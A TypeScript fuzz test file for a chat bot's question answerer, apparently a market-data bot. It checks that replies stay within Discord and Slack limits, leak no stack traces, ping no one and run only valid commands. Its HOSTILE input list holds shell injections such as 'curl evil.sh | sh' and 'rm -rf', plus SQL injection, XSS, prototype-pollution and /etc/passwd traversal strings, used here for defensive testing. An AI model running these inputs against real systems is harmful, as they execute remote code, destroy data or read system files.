/**
 * Hostile and random input: whatever people (or bots) send, answerQuestion answers — quickly, within
 * the chat limits, never with a stack trace, and never by running something that does not bind.
 */
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { answerQuestion, type AskOutcome } from '../../src/ask/answer.ts';
import { stripMentions } from '../../src/ask/normalize.ts';
import { intentsOf, SYMBOL_NAMES } from '../../src/ask/vocabulary.ts';
import { allCommands as registered } from './_commands.ts';

const INTENTS = intentsOf(registered);
import { bound, recordingRunner, lexicon, symbols } from './_stub.ts';

const DISCORD_LIMIT = 2000;
/** The bound each question is answered within (a hang guard, see below). */
const HANG_MS = 2000;
const SLACK_LIMIT = 3000;

const HOSTILE = [
  '/compare IWM SPY; rm -rf',
  '/compare IWM SPY && curl evil.sh | sh',
  '$(reboot)',
  '`rm -rf /`',
  '<script>alert(1)</script>',
  '"; DROP TABLE prices; --',
  '{{constructor.constructor("return process")()}}',
  '__proto__',
  'constructor',
  'toString',
  'hasOwnProperty',
  'valueOf',
  '3 constructor',
  'a __proto__',
  '../../etc/passwd',
  '%s%s%n',
  '\u0000',
  '\u202Eesrever',
  '\u200B\u200C\u200D\uFEFF',
  '@everyone',
  '@here',
  '<@123456789012345678>',
  '<@!42>',
  '<@&999>',
  '<@U0BOT|tapebot>',
  '<!channel>',
  '```js\nwhile(true){}\n```',
  '🚀🚀🚀',
  '📉',
  '👨‍👩‍👧‍👦',
  'ＳＰＹ',
  'Ǳ',
  'since since since',
  'as of as of',
  'from from',
  '9999999999999999999999',
  '$0',
  '$1e308',
  '-1',
  'NaN',
  'Infinity',
  '2026-02-30',
  'since:9999-99-99',
  'asof:2099-01-01',
  'period:',
  ':',
  '$',
  '^',
  '&&&',
];

/** Words tapebot knows, so random sentences reach deep into the reader rather than stopping at "nothing known". */
const KNOWN = [
  ...INTENTS.flatMap((i) => [...i.strong, ...(i.weak ?? [])]),
  ...SYMBOL_NAMES.flatMap((s) => s.phrases.slice(0, 3)),
  ...symbols.list().map((s) => s.symbol),
  'since june', 'since 2020', 'this year', 'ytd', '1m', '6 months', 'past 2 weeks', 'in 2025', 'in 2031', 'last year', 'as of 6/30/25', 'index',
  'sectors', 'styles', 'vs', 'above 600', '$52', 'NVDA', 'TSLA', 'IT', 'A', 'ON', 'ALL', 'the', 'and', '?', 'rn', 'lol',
];

const word = fc.oneof(
  { weight: 5, arbitrary: fc.constantFrom(...KNOWN) },
  { weight: 2, arbitrary: fc.constantFrom(...HOSTILE) },
  { weight: 2, arbitrary: fc.string({ maxLength: 10 }) },
  { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 8 }) },
  { weight: 1, arbitrary: fc.string({ unit: 'grapheme', maxLength: 6 }) },
);
const sentence = fc.array(word, { minLength: 0, maxLength: 25 }).map((ws) => ws.join(' '));
const question = fc.oneof(
  { weight: 6, arbitrary: sentence },
  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 300 }) },
  { weight: 1, arbitrary: fc.string({ unit: 'grapheme-ascii', minLength: 300, maxLength: 3000 }) },
  { weight: 1, arbitrary: fc.array(sentence, { minLength: 20, maxLength: 60 }).map((s) => s.join(' ')) },
  { weight: 1, arbitrary: fc.tuple(fc.constantFrom('/compare', '/streak', '/rotation', '/help', '/breakout', '/leaders', '/nope'), sentence).map(([c, s]) => `${c} ${s}`) },
);

function checkReply(out: AskOutcome): void {
  const text = out.kind === 'clarify' ? out.message : out.line;
  expect(text.length, 'fits a Discord message').toBeLessThanOrEqual(DISCORD_LIMIT);
  expect(text.length, 'fits a Slack section').toBeLessThanOrEqual(SLACK_LIMIT);
  expect(text, 'no stack trace').not.toMatch(/\n\s+at |\bat .+\.ts:\d+/);
  expect(text, 'no internal error names').not.toMatch(/TypeError|RangeError|ReferenceError|undefined is not|Cannot read prop/);
  expect(text, 'never pings anyone').not.toMatch(/<@[!&]?\w+>|<!(here|channel|everyone)>|@everyone|@here/);
  if (out.kind === 'clarify') {
    expect(out.message.trim().length, 'a question back says something').toBeGreaterThan(10);
  } else {
    expect(out.readAs.startsWith('/'), 'Read as a command').toBe(true);
  }
}

describe('answerQuestion on random and hostile input', () => {
  // Issue 9 asks that each be answered within a bound: 2 s is a hang guard, far above the usual well
  // under a millisecond, so it fails on a runaway (a catastrophic regex), not on a busy machine.
  it('never throws, stays within chat limits, never shows a stack trace, each within 2 s (10,000 runs)', async () => {
    let answered = 0;
    await fc.assert(
      fc.asyncProperty(question, fc.constantFrom('discord' as const, 'slack' as const), async (q, platform) => {
        const runner = recordingRunner();
        const started = performance.now();
        const out = await answerQuestion(stripMentions(q, platform), { runner, symbols, lexicon, asOf: '2026-08-21' });
        const ms = performance.now() - started;
        expect(ms, `"${q.slice(0, 80)}" took ${ms.toFixed(0)} ms`).toBeLessThan(HANG_MS);
        checkReply(out);
        if (out.kind === 'clarify') expect(out.message, `no internal failure reading "${q.slice(0, 80)}"`).not.toMatch(/went wrong/);
        else answered++;
        // An answer only runs what binds: the runner saw exactly one invocation, and it binds without error.
        if (out.kind === 'answer') {
          expect(runner.calls).toHaveLength(1);
          const call = runner.calls[0];
          if (call) expect(() => bound(call.name, call.args)).not.toThrow();
        } else expect(runner.calls, 'a question back runs nothing').toHaveLength(0);
      }),
      { numRuns: 10_000 },
    );
    // The generator must reach the answering path, not only the questions back.
    expect(answered, 'a fair share of random sentences read as commands').toBeGreaterThan(1000);
  }, 240_000);

  it('answers a raw message (mentions not stripped by the adapter) just as safely', async () => {
    await fc.assert(
      fc.asyncProperty(question, async (q) => {
        const out = await answerQuestion(`<@123456789012345678> ${q} @everyone`, { runner: recordingRunner(), symbols, lexicon, asOf: '2026-08-21' });
        checkReply(out);
      }),
      { numRuns: 1000 },
    );
  }, 120_000);

  it('survives a runner that throws and a reference day that cannot be read', async () => {
    const runner = recordingRunner();
    const broken = { ...runner, run: async () => Promise.reject(new Error('boom at src/x.ts:1')) };
    const out = await answerQuestion('is KRE breaking out?', { runner: broken, symbols, lexicon, asOf: '2026-08-21' });
    expect(out.kind).toBe('clarify');
    checkReply(out);
    if (out.kind === 'clarify') expect(out.message, 'says where to look, not what broke').toMatch(/reference [0-9a-f]{6}/);
    const noDay = await answerQuestion('compare IWM and QQQ since june', { runner, symbols, lexicon, asOf: () => Promise.reject(new Error('db down')) });
    expect(noDay.kind).toBe('clarify');
    checkReply(noDay);
  });
});
